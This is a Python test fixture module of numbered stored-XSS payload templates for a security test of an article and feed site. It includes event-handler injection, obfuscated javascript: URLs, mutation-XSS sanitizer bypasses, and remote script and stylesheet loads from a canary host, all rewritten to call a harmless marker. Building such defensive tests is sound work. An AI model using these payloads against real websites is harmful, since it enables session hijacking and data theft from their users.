"""Script-injection payloads for the stored-XSS proof (tests/security/test_xss_rendered.py).

Each payload, if it ever ran in a reader's or an editor's browser, would call
``__hit(n)`` (which the test's init script defines to push ``n`` onto ``window.__xss``),
open a dialog (``alert(n)``), or make the browser request ``{canary}/…`` from the hostile
site (CSS, images, stylesheets, frames).  They are placed where a hostile sub-site can put
them: the title (``ArticleTitle``, ``<title>``, ``<h1>`` and the list's link text), the
来源 (``ContentSource`` and the 来源 line), the body, image ``alt``/``src``, attachment
names and addresses, the page's own address, and a feed's title, author and content.

They come from the classic catalogues (OWASP's XSS filter-evasion cheat sheet, the
HTML5 Security Cheatsheet, PortSwigger's XSS cheat sheet) and from published
sanitizer bypasses (mutation XSS through ``noscript``, ``mglyph``/``malignmark``,
``<math>``/``<svg>`` namespace confusion, DOMPurify 2.0.x and 2.2.x bypasses),
rewritten to call ``__hit``.  Templates use ``{n}`` (the payload's number),
``{canary}`` (the hostile site's canary address), ``{b64}`` (``__hit(n)`` in base64)
and ``{b64html}`` (a script calling it, in base64); literal braces are doubled.
"""
from __future__ import annotations

import base64
from dataclasses import dataclass

# (place, kind, template).  Places: title, source, body, image, attachment, url,
# feed-title, feed-author, feed-content.  Payloads that hold <object> or <embed> go last
# on their page: the extractor keeps nothing after one (libxml2 nests what follows inside it).
TEMPLATES: tuple[tuple[str, str, str], ...] = (
    # -- titles: plain text everywhere; shown escaped, in <title>, <h1>, links, an <input value>,
    #    search highlights and feeds
    ("title", "script", "<script>__hit({n})</script>关于专项整治的通知"),
    ("title", "attribute breakout", "关于\"><img src=x onerror=__hit({n})>的通知"),
    ("title", "attribute breakout", "关于'><svg onload=__hit({n})>的公告"),
    ("title", "element breakout", "</title><script>__hit({n})</script>标题闭合测试"),
    ("title", "element breakout", "</textarea><script>__hit({n})</script>文本框闭合测试"),
    ("title", "attribute injection", "\" autofocus onfocus=\"__hit({n})\" x=\"属性逃逸测试"),
    ("title", "template injection", "{{{{7*7}}}}${{__hit({n})}}模板注入测试"),
    ("title", "javascript url", "javascript:__hit({n})//伪协议标题测试"),
    ("title", "entity", "&lt;img src=x onerror=__hit({n})&gt;已转义标题测试"),
    ("title", "comment", "<!--<img src=\"--><img src=x onerror=__hit({n})//\">注释标题测试"),
    ("title", "frame", "<iframe srcdoc=\"<script>parent.__hit({n})</script>\">框架标题测试"),
    ("title", "element breakout", "</script><script>__hit({n})</script>脚本闭合标题测试"),
    ("title", "line separators", "\u2028\u2029</style><svg onload=__hit({n})>行分隔符标题测试"),
    # -- 来源
    ("source", "attribute breakout", "测试单位\"><img src=x onerror=__hit({n})>"),
    ("source", "script", "<script>__hit({n})</script>办公室"),
    ("source", "attribute injection", "' onmouseover='__hit({n})' x='"),
    ("source", "element breakout", "</dd><script>__hit({n})</script>"),
    ("source", "javascript url", "<a href=javascript:__hit({n})>来源链接</a>"),
    ("source", "svg", "<svg/onload=__hit({n})>信息中心"),
    ("source", "entity", "&#60;script&#62;__hit({n})&#60;/script&#62;政务公开科"),
    ("source", "template injection", "{{{{constructor.constructor('__hit({n})')()}}}}"),
    ("source", "dialog", "<script>alert({n})</script>宣传部"),
    ("source", "mutation", "<noscript><p title=\"</noscript><img src=x onerror=__hit({n})>\">"),
    ("source", "css", "<div style=\"background:url({canary}/css/{n})\">来源样式</div>"),
    ("source", "frame", "<iframe src=\"javascript:parent.__hit({n})\"></iframe>新闻科"),
    ("source", "encoding", "\\u003cscript\\u003e__hit({n})\\u003c/script\\u003e"),
    # -- the page's own address (原文链接, shown as link and text)
    ("url", "attribute breakout", "/art/q{n}.html?x=\"><svg onload=__hit({n})>"),
    ("url", "attribute breakout", "/art/q{n}.html?y='><img src=x onerror=__hit({n})>&z=<script>"),
    # -- bodies: scripts
    ("body", "script", "<script>__hit({n})</script>"),
    ("body", "script", "<SCRIPT SRC=\"{canary}/js/{n}.js\"></SCRIPT>"),
    ("body", "script", "<script type=\"module\">__hit({n})</script>"),
    ("body", "script", "<scr<script>ipt>__hit({n})</scr</script>ipt>"),
    ("body", "script", "<script>/*</script><img src=x onerror=__hit({n})>*/</script>"),
    ("body", "script", "<script>alert({n})</script>"),
    # -- bodies: event handlers
    ("body", "event handler", "<img src=x onerror=\"__hit({n})\">"),
    ("body", "event handler", "<img src=x onerror=__hit({n})//"),
    ("body", "event handler", "<body onload=\"__hit({n})\">"),
    ("body", "event handler", "<svg onload=__hit({n})>"),
    ("body", "event handler", "<details open ontoggle=\"__hit({n})\"><summary>展开</summary>详情</details>"),
    ("body", "event handler", "<input autofocus onfocus=\"__hit({n})\">"),
    ("body", "event handler", "<video><source onerror=\"__hit({n})\"></video>"),
    ("body", "event handler", "<audio src=x onerror=__hit({n})>"),
    ("body", "event handler", "<marquee onstart=__hit({n})>滚动</marquee>"),
    ("body", "event handler", "<div onmouseover=\"__hit({n})\">悬停区域</div>"),
    ("body", "event handler", "<a href=\"#\" onclick=\"__hit({n})\">点击这里</a>"),
    ("body", "event handler", "<p onpointerenter=__hit({n})>指针进入</p>"),
    ("body", "event handler", "<select autofocus onfocus=__hit({n})><option>选项</option></select>"),
    ("body", "event handler", "<textarea autofocus onfocus=__hit({n})>文本</textarea>"),
    ("body", "event handler", "<keygen autofocus onfocus=__hit({n})>"),
    ("body", "event handler", "<img src=\"x\" ONERROR=\"__hit({n})\">"),
    ("body", "event handler", "<img/src=x/onerror=__hit({n})>"),
    ("body", "event handler", "<img src=x onerror=\"eval(atob('{b64}'))\">"),
    ("body", "event handler", "<svg><animate onbegin=__hit({n}) attributeName=x dur=1s></svg>"),
    ("body", "event handler", "<svg><set attributeName=onmouseover to=__hit({n})></svg>"),
    ("body", "event handler", "<iframe onload=__hit({n})></iframe>"),
    ("body", "event handler", "<isindex type=image src=1 onerror=__hit({n})>"),
    ("body", "event handler", "<style onload=__hit({n})></style>"),
    ("body", "event handler", "<table><td onclick=__hit({n})>单元格</td></table>"),
    ("body", "event handler", "<img src=x onerror=\"&#95;&#95;hit({n})\">"),
    ("body", "event handler", "<img src=x onerror=\"\\u005f_hit({n})\">"),
    ("body", "event handler", "<img src=x onerror=alert({n})>"),
    ("body", "event handler", "<x contenteditable onblur=__hit({n})>失焦</x>"),
    # -- bodies: javascript: and data: URLs
    ("body", "javascript url", "<a href=\"javascript:__hit({n})\">脚本链接</a>"),
    ("body", "javascript url", "<a href=\"JaVaScRiPt:__hit({n})\">大小写</a>"),
    ("body", "javascript url", "<a href=\" javascript:__hit({n})\">前导空格</a>"),
    ("body", "javascript url", "<a href=\"jav&#x09;ascript:__hit({n})\">制表符</a>"),
    ("body", "javascript url", "<a href=\"&#106;avascript:__hit({n})\">十进制实体</a>"),
    ("body", "javascript url", "<a href=\"&#x6A;avascript&colon;__hit({n})\">命名实体冒号</a>"),
    ("body", "javascript url", "<a href=\"javascript&#58;__hit({n})\">冒号实体</a>"),
    ("body", "javascript url", "<a href=\"java&#0000115;cript:__hit({n})\">补零实体</a>"),
    ("body", "javascript url", "<a href=\"\u0001javascript:__hit({n})\">控制字符</a>"),
    ("body", "javascript url", "<a href=\"javascript://%0a__hit({n})\">换行注释</a>"),
    ("body", "javascript url", "<a href=\"data:text/html,<script>parent.__hit({n})</script>\">数据链接</a>"),
    ("body", "javascript url", "<a href=\"data:text/html;base64,{b64html}\">base64数据</a>"),
    ("body", "javascript url", "<a href=\"vbscript:__hit({n})\">vbscript</a>"),
    ("body", "javascript url", "<iframe src=\"javascript:parent.__hit({n})\"></iframe>"),
    ("body", "javascript url", "<form action=\"javascript:__hit({n})\"><input type=submit value=提交表单></form>"),
    ("body", "javascript url", "<form><button formaction=\"javascript:__hit({n})\">另一个按钮</button></form>"),
    ("body", "javascript url", "<map name=m{n}><area href=\"javascript:__hit({n})\" shape=rect coords=0,0,9,9></map>"),
    ("body", "javascript url", "<base href=\"javascript:__hit({n})//\">"),
    ("body", "javascript url", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__hit({n})\">"),
    ("body", "javascript url", "<a href=\"&#x26;#x6A;avascript:__hit({n})\">双重实体</a>"),
    ("body", "javascript url", "<a href=\"javascript&#x3A;__hit({n})\">十六进制冒号</a>"),
    ("body", "javascript url", "<a href=javas&#99;ript:__hit({n})>无引号</a>"),
    # -- bodies: SVG and MathML
    ("body", "svg", "<svg><script>__hit({n})</script></svg>"),
    ("body", "svg", "<svg><a xlink:href=\"javascript:__hit({n})\"><text x=0 y=20>矢量图链接</text></a></svg>"),
    ("body", "svg", "<svg><foreignObject><iframe srcdoc=\"<script>parent.__hit({n})</script>\"></iframe></foreignObject></svg>"),
    ("body", "svg", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
                    "<image href='1' onerror='__hit({n})'/></svg>#x\"/></svg>"),
    ("body", "svg", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:__hit({n})\">数学</maction></math>"),
    ("body", "svg", "<math href=\"javascript:__hit({n})\">公式</math>"),
    ("body", "svg", "<svg><a><animate attributeName=href values=javascript:__hit({n}) /><text x=0 y=20>动画</text></a></svg>"),
    # -- bodies: entities and encodings (must stay text)
    ("body", "entity", "&lt;script&gt;__hit({n})&lt;/script&gt;"),
    ("body", "entity", "&amp;lt;img src=x onerror=__hit({n})&amp;gt;"),
    ("body", "entity", "＜script＞__hit({n})＜/script＞"),
    ("body", "entity", "%3Cscript%3E__hit({n})%3C/script%3E"),
    ("body", "encoding", "+ADw-script+AD4-__hit({n})+ADw-/script+AD4-"),
    ("body", "encoding", "\\x3cscript\\x3e__hit({n})\\x3c/script\\x3e"),
    # -- bodies: mutation XSS (parser differentials)
    ("body", "mutation", "<noscript><p title=\"</noscript><img src=x onerror=__hit({n})>\"></p></noscript>"),
    ("body", "mutation", "<math><mtext><table><mglyph><style><img src=x onerror=__hit({n})></style></mglyph></table></mtext></math>"),
    ("body", "mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=__hit({n})>\">"),
    ("body", "mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit({n})>"),
    ("body", "mutation", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>"
                         "<img src onerror=__hit({n})>\"></style></h1>"),
    ("body", "mutation", "<template><img src=x onerror=__hit({n})></template>"),
    ("body", "mutation", "<title><img src=x onerror=__hit({n})></title>"),
    ("body", "mutation", "<xmp><img src=x onerror=__hit({n})></xmp>"),
    ("body", "mutation", "<!--><img src=x onerror=__hit({n})>-->"),
    ("body", "mutation", "<![CDATA[<img src=x onerror=__hit({n})>]]>"),
    ("body", "mutation", "<iframe srcdoc=\"&lt;img src=x onerror=parent.__hit({n})&gt;\"></iframe>"),
    ("body", "mutation", "<listing>&lt;img src=x onerror=__hit({n})&gt;</listing>"),
    ("body", "mutation", "<svg><style><img src=x onerror=__hit({n})></style></svg>"),
    ("body", "mutation", "<a title=\"&lt;/a&gt;&lt;img src=x onerror=__hit({n})&gt;\">标题属性</a>"),
    ("body", "mutation", "<img alt=\"`` onerror=__hit({n})\" src=x>"),
    ("body", "mutation", "<svg><p><style><g title=\"</style><img src onerror=__hit({n})>\">"),
    ("body", "mutation", "<table><caption><svg><title></table><img src=x onerror=__hit({n})>"),
    ("body", "mutation", "<select><template><img src=x onerror=__hit({n})></template></select>"),
    # -- bodies: CSS and fetches (the canary must never be asked for)
    ("body", "css", "<div style=\"background:url('{canary}/css/{n}')\">背景图</div>"),
    ("body", "css", "<style>@import '{canary}/css/{n}';</style>"),
    ("body", "css", "<link rel=stylesheet href=\"{canary}/css/{n}.css\">"),
    ("body", "css", "<div style=\"width:expression(__hit({n}))\">表达式</div>"),
    ("body", "css", "<div style=\"behavior:url({canary}/css/{n}.htc)\">行为</div>"),
    ("body", "css", "<p style=\"background-image:url(javascript:__hit({n}))\">脚本背景</p>"),
    ("body", "css", "<style>*{{background:url({canary}/css/{n})}}</style>"),
    ("body", "css", "<div style=\"-moz-binding:url({canary}/css/{n}.xml#x)\">绑定</div>"),
    ("body", "css", "<style>@font-face{{font-family:x;src:url({canary}/css/{n}.woff)}}</style><span>字体</span>"),
    ("body", "css", "<table background=\"{canary}/css/{n}.png\"><tr><td>表格背景</td></tr></table>"),
    ("body", "css", "<img src=\"{canary}/img/{n}.png\" alt=\"外部图片\">"),
    ("body", "css", "<img srcset=\"{canary}/img/{n}.png 1x\" alt=\"响应式图片\">"),
    ("body", "css", "<picture><source srcset=\"{canary}/img/{n}.webp\"><img src=\"/x{n}.png\" alt=\"图片元素\"></picture>"),
    ("body", "css", "<input type=image src=\"{canary}/img/{n}.png\">"),
    ("body", "css", "<video poster=\"{canary}/img/{n}.jpg\"></video>"),
    ("body", "css", "<link rel=prefetch href=\"{canary}/link/{n}\">"),
    ("body", "css", "<div style=\"background:u&#114;l({canary}/css/{n})\">实体样式</div>"),
    # -- images: alt and src
    ("image", "image alt", "<img src=\"/img/{n}.png\" alt=\"&quot;&gt;&lt;script&gt;__hit({n})&lt;/script&gt;\">"),
    ("image", "image alt", "<img src=\"/img/{n}.png\" alt=\"' onerror='__hit({n})\">"),
    ("image", "image src", "<img src=\"javascript:__hit({n})\" alt=\"脚本地址图片\">"),
    ("image", "image src", "<img src=\"data:image/svg+xml,&lt;svg onload='__hit({n})' "
                           "xmlns='http://www.w3.org/2000/svg'/&gt;\" alt=\"svg数据图片\">"),
    ("image", "image src", "<img src=\"/img/{n}.png?&quot;&gt;&lt;svg/onload=__hit({n})&gt;\" alt=\"引号地址图片\">"),
    ("image", "image alt", "<img src=\"/img/{n}.png\" alt=\"{{{{7*7}}}}&lt;svg onload=__hit({n})&gt;\">"),
    ("image", "image alt", "<a href=\"/art/x{n}.html\"><img src=\"/img/{n}.png\" alt=\"&lt;img src=x onerror=__hit({n})&gt;\"></a>"),
    ("image", "image alt", "<img src=\" /img/{n}.png\" alt=\"[图片] onmouseover=__hit({n})\">"),
    ("image", "image src", "<img src=\"http://127.0.0.1:1/{n}.png#&quot;onerror=&quot;__hit({n})\" alt=\"片段地址图片\">"),
    ("image", "image src", "<img src=\"/img/{n}.svg\" alt=\"矢量图片\">"),
    # -- attachments: names and addresses
    ("attachment", "attachment name", "<a href=\"/files/{n}.pdf\">&lt;img src=x onerror=__hit({n})&gt;.pdf</a>"),
    ("attachment", "attachment name", "<a href=\"/files/{n}.doc\">\"&gt;&lt;script&gt;__hit({n})&lt;/script&gt;.doc</a>"),
    ("attachment", "attachment url", "<a href=\"/files/{n}.xls?&quot;&gt;&lt;svg onload=__hit({n})&gt;\">附件表格.xls</a>"),
    ("attachment", "attachment url", "<a href=\"javascript:__hit({n})//.pdf\">恶意附件.pdf</a>"),
    ("attachment", "attachment name", "<a href=\"/files/{n}.zip\" title=\"&quot; onmouseover=&quot;__hit({n})\"></a>"),
    ("attachment", "attachment name", "<a href=\"/files/{n}.pdf\">附件' onclick='__hit({n})'.pdf</a>"),
    ("attachment", "attachment url", "<a href=\"/files/{n}.pdf\" onmouseover=\"__hit({n})\">附件：实施方案.pdf</a>"),
    ("attachment", "attachment url", "<a href=\"data:application/pdf;base64,{b64html}#.pdf\">数据附件.pdf</a>"),
    # -- bodies: what only an <object> or <embed> carries (last on their page)
    ("body", "plugin", "<object data=\"javascript:__hit({n})\"></object>"),
    ("body", "plugin", "<embed src=\"javascript:__hit({n})\">"),
    ("body", "plugin", "<object type=\"text/x-scriptlet\" data=\"{canary}/obj/{n}\"></object>"),
    # -- a feed: titles, authors (来源) and full-text content
    ("feed-title", "script", "<script>__hit({n})</script>订阅标题测试"),
    ("feed-title", "event handler", "<img src=x onerror=__hit({n})>订阅图片标题"),
    ("feed-title", "cdata", "]]><script>__hit({n})</script>订阅数据段标题"),
    ("feed-title", "entity", "&lt;b&gt;加粗&lt;/b&gt;<svg onload=__hit({n})>订阅实体标题"),
    ("feed-title", "attribute breakout", "订阅\"><iframe src=javascript:parent.__hit({n})>标题"),
    ("feed-title", "xml", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">__hit({n})</x:script>命名空间标题"),
    ("feed-title", "dialog", "<svg onload=alert({n})>订阅弹窗标题"),
    ("feed-title", "entity", "&#x3C;script&#x3E;__hit({n})&#x3C;/script&#x3E;订阅十六进制标题"),
    ("feed-author", "script", "<script>__hit({n})</script>订阅作者"),
    ("feed-author", "attribute breakout", "\"><img src=x onerror=__hit({n})>订阅来源"),
    ("feed-author", "javascript url", "<a href=\"javascript:__hit({n})\">作者链接</a>"),
    ("feed-author", "mutation", "<noscript><p title=\"</noscript><img src=x onerror=__hit({n})>\">作者"),
    ("feed-author", "xml", "<x:img xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"__hit({n})\"/>"),
    ("feed-author", "entity", "&amp;lt;svg onload=__hit({n})&amp;gt;作者实体"),
    ("feed-author", "css", "<div style=\"background:url({canary}/css/{n})\">作者样式</div>"),
    ("feed-author", "template injection", "{{{{__hit({n})}}}}作者模板"),
    ("feed-content", "event handler", "<svg/onload=__hit({n})>"),
    ("feed-content", "javascript url", "<iframe src=javascript:parent.__hit({n})></iframe>"),
    ("feed-content", "javascript url", "<a href=\"javascript&#x3A;__hit({n})\">订阅正文链接</a>"),
    ("feed-content", "css", "<div style=\"background:url({canary}/css/{n})\">订阅正文样式</div>"),
    ("feed-content", "svg", "<math><mi xlink:href=\"javascript:__hit({n})\">订阅公式</mi></math>"),
    ("feed-content", "event handler", "<img src=1 onerror=\\u0061lert({n})>"),
    ("feed-content", "javascript url", "<a href=javas&#99;ript:__hit({n})>订阅无引号链接</a>"),
    ("feed-content", "entity", "<p>&lt;script&gt;__hit({n})&lt;/script&gt;</p>"),
    ("feed-content", "script", "<script>alert({n})</script>"),
    ("feed-content", "mutation", "<math><mtext><table><mglyph><style><img src=x onerror=__hit({n})></style></mglyph></table></mtext></math>"),
)


@dataclass(frozen=True)
class Payload:
    n: int
    place: str
    kind: str
    markup: str

    @property
    def marker(self) -> str:
        """Text placed just before the payload in a body, to see it reached the store."""
        return f"第{self.n}号载荷"


def payloads(canary: str) -> list[Payload]:
    """Every template, numbered from 1, with the hostile site's canary address filled in."""
    out = []
    for n, (place, kind, template) in enumerate(TEMPLATES, start=1):
        call = f"__hit({n})"
        b64 = base64.b64encode(call.encode()).decode()
        b64html = base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()
        out.append(Payload(n, place, kind, template.format(n=n, canary=canary, b64=b64, b64html=b64html)))
    return out
